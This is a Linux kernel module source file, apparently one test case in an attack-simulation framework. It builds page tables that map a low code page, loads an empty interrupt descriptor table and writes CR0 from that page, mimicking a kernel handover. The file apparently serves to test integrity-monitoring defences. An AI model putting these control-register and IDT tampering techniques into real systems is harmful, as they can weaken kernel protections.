// SPDX-License-Identifier: MIT
// Looks like a kernel that hands over to another one, and goes on: no interrupt descriptor table, and a write to CR0, of what it
// holds, from a page that is mapped low.

#include <linux/gfp.h>
#include <linux/irqflags.h>
#include <linux/kernel.h>
#include <linux/string.h>
#include <asm/desc.h>
#include <asm/nospec-branch.h>
#include <asm/pgtable.h>
#include <asm/special_insns.h>
#include "attack.h"

#define LOW_ADDRESS 0x10000ul
#define ENTRIES (PAGE_SIZE / sizeof(u64))

enum { ROOT, LEVEL_3, LEVEL_2, LEVEL_1, CODE, PAGES };

/* mov %rdi, %cr0; ret */
static const u8 code[] = { 0x0f, 0x22, 0xc7, 0xc3 };

/* The tables of this moment, with one page more. Four levels; entry 0 of each but the last. */
static void fill(u64 **pages, unsigned long cr3)
{
	unsigned int level;

	memcpy(pages[ROOT], __va(cr3 & PAGE_MASK), PAGE_SIZE);
	memcpy(pages[CODE], code, sizeof(code));
	for (level = ROOT; level < LEVEL_1; level++)
		pages[level][0] = __pa(pages[level + 1]) | _PAGE_PRESENT | _PAGE_RW;
	pages[LEVEL_1][LOW_ADDRESS / PAGE_SIZE % ENTRIES] = __pa(pages[CODE]) | _PAGE_PRESENT | _PAGE_RW;
}

static void hand_over(u64 **pages, unsigned long cr3)
{
	static const struct desc_ptr none;
	unsigned long cr0 = native_read_cr0();
	struct desc_ptr table;

	store_idt(&table);
	asm volatile("movq %[low_cr3], %%cr3\n\t"
		     "lidt %[none]\n\t"
		     ANNOTATE_RETPOLINE_SAFE
		     "call *%[low]\n\t"
		     "lidt %[table]\n\t"
		     "movq %[cr3], %%cr3"
		     : ASM_CALL_CONSTRAINT
		     : [low_cr3] "r"(__pa(pages[ROOT])), [none] "m"(none), [low] "r"(LOW_ADDRESS), "D"(cr0), [table] "m"(table),
		       [cr3] "r"(cr3)
		     : "memory");
}

static int run(const char *name)
{
	unsigned long flags, cr3 = __native_read_cr3();
	u64 *pages[PAGES] = { };
	unsigned int i;
	int error = 0;

	for (i = 0; i < PAGES; i++) {
		pages[i] = (u64 *)get_zeroed_page(GFP_KERNEL);
		if (!pages[i])
			error = -ENOMEM;
	}
	if (!error) {
		pr_info("attack: writing CR0 at 0x%lx\n", LOW_ADDRESS);
		local_irq_save(flags);
		fill(pages, cr3);
		hand_over(pages, cr3);
		local_irq_restore(flags);
		pr_info("attack: the kernel goes on\n");
	}
	for (i = 0; i < PAGES; i++)
		free_page((unsigned long)pages[i]);
	return error;
}

const struct kind handover_kinds[] = { { "handover", run }, { } };
